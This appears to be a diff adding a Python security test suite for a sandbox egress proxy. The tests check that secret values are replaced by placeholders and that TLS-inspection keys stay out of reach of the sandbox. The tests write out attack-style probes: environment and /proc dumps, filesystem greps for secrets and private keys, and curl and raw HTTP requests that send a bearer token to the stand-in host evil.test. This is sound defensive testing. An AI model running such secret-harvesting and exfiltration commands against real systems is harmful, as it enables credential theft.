@@ -1,0 +1,155 @@
+"""Attacks on what must not come in: the values of secrets (E33), the keys of inspection's certificates (E35)."""
+import json
+import subprocess
+import unittest
+
+import attack
+from attack import world
+
+LISTED = {"allowOut": ["a.test", "*.b.test", "evil.test"], "denyOut": ["0.0.0.0/0"]}
+INSPECTED = LISTED | {"rules": {"a.test": [{"transform": {"headers": {"X-Rule": "here"}}}]}}
+VALUE = "sk-value-5c1f9e0b7d6a4c3e8f21"
+
+
+def setUpModule():
+    attack.begin()
+
+
+class Secrets(attack.Case):
+    def secret(self, name, hosts):
+        answer = attack.site.api("POST", "/secrets", {"name": name, "value": VALUE, "metadata": {"sandglass.hosts": hosts}})
+        self.assertIn(answer.status, (200, 201), answer)
+        self.addCleanup(attack.site.api, "DELETE", f"/secrets/{name}")
+
+    def boxed(self, user):
+        name = f"key-{user}-{self.id().rpartition('.')[2].lower()[-20:].replace('_', '-')}"
+        self.secret(name, "a.test")
+        return self.box(network=LISTED, envVars={"API_KEY": f"${{e2b.secrets.{name}}}"})
+
+    def heads(self, seen, address):
+        return "".join(r["head"] for r in seen.requests(local=address))
+
+    def test_E33_the_value_is_never_inside(self, user):
+        box = self.boxed(user)
+        out = self.sh(box, "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; "
+                      f"grep -rlaF {VALUE[:12]} /proc/*/environ /proc/*/cmdline /etc /home /root /run /tmp /var 2>/dev/null; "
+                      "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/reflect; "
+                      "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/reflect/authorization/pieces; "
+                      "curl -sS -m10 -D - -H \"X-Api-Key: $API_KEY\" http://a.test/reflect/x-api-key/header; true", user)
+        self.assertNotIn(VALUE, out)
+        self.assertRegex(out, r"API_KEY=sgph_[0-9a-f]{32}")
+        self.assertIn(VALUE, self.heads(self.before, world.A), "the host has it")
+
+    def test_E33_others_get_the_placeholder(self, user):
+        box = self.boxed(user)
+        trust = box.trust()
+        self.sh(box, f"{trust}; curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://evil.test/who; "
+                "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" http://evil.test/who; "
+                "curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" http://x.b.test/who", user)
+        for address in (world.EVIL, world.B):
+            heads = self.heads(self.before, address)
+            self.assertIn("sgph_", heads)
+            self.assertNotIn(VALUE, heads)
+
+    def test_E33_only_where_it_belongs(self, user):
+        """Not in the target, not in the body, not in other headers; not by a host that is only said."""
+        box = self.boxed(user)
+        code = """
+fake, key = resolve("a.test")[1][0], os.environ["API_KEY"]
+evil = resolve("evil.test")[1][0]
+head = f"GET /who?k={key} HTTP/1.1\\r\\nHost: %s\\r\\nX-Other: {key}\\r\\nAuthorization: Bearer {key}\\r\\nConnection: close\\r\\n\\r\\n"
+body = f"POST /echo HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: {len(key)}\\r\\nConnection: close\\r\\n\\r\\n{key}"
+show([attempt(tcp, host, 80, (text % name if "%s" in text else text).encode())
+      for host in (fake, evil, "198.41.0.4") for name in ("a.test", "evil.test") for text in (head, body)])
+"""
+        answers = self.probe(box, code, user)
+        self.assertNotIn(VALUE, "".join(answers))
+        heads = self.heads(self.before, world.A)
+        self.assertIn(f"Authorization: Bearer {VALUE}".lower(), heads.lower())
+        for line in heads.splitlines():
+            if VALUE in line:
+                self.assertTrue(line.lower().startswith("authorization:"), line)
+        self.assertNotIn(VALUE, self.heads(self.before, world.EVIL) + "".join(line["text"] for line in self.before.lines("web", "body")))
+        self.on_record(box, kind="secret")
+        self.assertNotIn(VALUE, json.dumps(attack.records(box)))
+
+    def test_E33_not_in_the_servers_files_and_logs(self):
+        box = self.boxed("user")
+        box.sh("curl -sS -m10 -H \"Authorization: Bearer $API_KEY\" https://a.test/who >/dev/null")
+        with open(attack.site.log, errors="replace") as f:
+            self.assertNotIn(VALUE, f.read())
+        status, out = attack.site.command("audit", "query", "--state", attack.site.state, "--json")
+        self.assertNotIn(VALUE, out)
+        grep = subprocess.run(["grep", "-rlaF", VALUE, attack.site.state], capture_output=True, text=True)
+        self.assertEqual(grep.stdout, "")
+        for what in (f"/sandboxes/{box.id}", "/v2/sandboxes", "/secrets"):
+            self.assertNotIn(VALUE, str(attack.site.api("GET", what).body))
+
+
+class Certificates(attack.Case):
+    BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
+    BESIDE = "/usr/local/share/ca-certificates/sandglass-egress.crt"
+
+    def test_E35_no_key_is_inside(self, user):
+        box = self.box(network=INSPECTED)
+        out = self.sh(box, f"test -s {self.BESIDE} && find / -xdev \\( -name '*.key' -o -name '*.pem' -o -name '*.crt' \\) -newer /proc/1/cmdline "
+                      "2>/dev/null; grep -rla 'PRIVATE KEY' /etc /run /home /root /tmp /var /usr/local 2>/dev/null; true", user)
+        self.assertEqual([line for line in out.splitlines() if "key" in line.lower()], [])
+
+    def test_E35_a_neighbours_certificate_is_worth_nothing(self, user):
+        box, other = self.box(network=INSPECTED), self.box(network=INSPECTED)
+        theirs = other.get(self.BESIDE).body
+        self.assertIn(b"BEGIN CERTIFICATE", theirs)
+        box.put("/tmp/theirs.pem", theirs)
+        self.assertIn('"x-rule"', self.sh(box, "curl -sS -m10 https://a.test/who", user).lower())
+        code = """
+fake = resolve("a.test")[1][0]
+show([attempt(https, fake, "a.test", context=ssl.create_default_context(cafile=path)) for path in sys.argv[1:]])
+"""
+        good, bad = self.probe(box, code, user, self.BESIDE, "/tmp/theirs.pem")
+        self.assertIn('"who": "a"', good)
+        self.assertEqual(bad, "SSL CERTIFICATE_VERIFY_FAILED")
+
+    def test_E35_only_names_of_rules_are_signed(self, user):
+        box = self.box(network=INSPECTED)
+        text = self.sh(box, f"openssl x509 -in {self.BESIDE} -noout -text", user)
+        self.assertIn("DNS:a.test", text)
+        self.assertIn("X509v3 Name Constraints: critical", text)
+        for name, issuer in (("a.test", "sandglass"), ("x.b.test", "Test bed root"), ("evil.test", "Test bed root")):
+            out = box.sh(f"echo | timeout 10 openssl s_client -connect {name}:443 -servername {name} 2>/dev/null | "
+                         "openssl x509 -noout -issuer", user=user)[1]
+            self.assertIn(issuer.lower(), out.lower(), name)
+
+    def test_E35_servers_that_are_not_who_they_say(self, user):
+        """Inspection does not make a bad certificate a good one."""
+        names = ["expired.test", "wrong.test", "stranger.test", "self.test"]
+        box = self.box(network={"allowOut": names, "denyOut": ["0.0.0.0/0"],
+                                "rules": {n: [{"transform": {"headers": {"Authorization": "Bearer x"}}}] for n in names}})
+        for name in names:
+            out = box.sh(f"curl -sS -m10 -o /dev/null -w '%{{http_code}}' https://{name}/who", user=user)[1]
+            self.assertIn("502", out, name)
+        self.assertEqual([r for r in self.before.requests(local=world.A)], [], "nothing was told to them")
+
+    def test_E35_another_host_inside_tls(self, user):
+        """The name in TLS and the name in the request are the same, in each request."""
+        box = self.box(network=INSPECTED)
+        code = """
+context = ssl.create_default_context()
+fake = resolve("a.test")[1][0]
+def two(second):
+    with connect(fake, 443) as s, context.wrap_socket(s, server_hostname="a.test") as t:
+        t.sendall(f"GET /who HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\nGET /who HTTP/1.1\\r\\nHost: {second}\\r\\nConnection: close\\r\\n\\r\\n".encode())
+        return rest(t)
+show([attempt(https, fake, "a.test", name, 443, context) for name in ("evil.test", "x.b.test", "a.test:80")] +
+     [attempt(two, name) for name in ("evil.test", "www.a.test", "a.test")])
+"""
+        *ones, evil, www, good = self.probe(box, code, user)
+        self.assertEqual([o.split()[1] for o in ones], ["421", "421", "421"])
+        for answer in (evil, www):
+            self.assertTrue("HTTP/1.1 421" in answer and answer.count('"who"') == 1, answer)
+        self.assertEqual(good.count('"who": "a"'), 2)
+        self.assertEqual({dict(r["headers"])["Host"] for r in self.before.requests(local=world.A)}, {"a.test"})
+
+
+if __name__ == "__main__":
+    unittest.main()
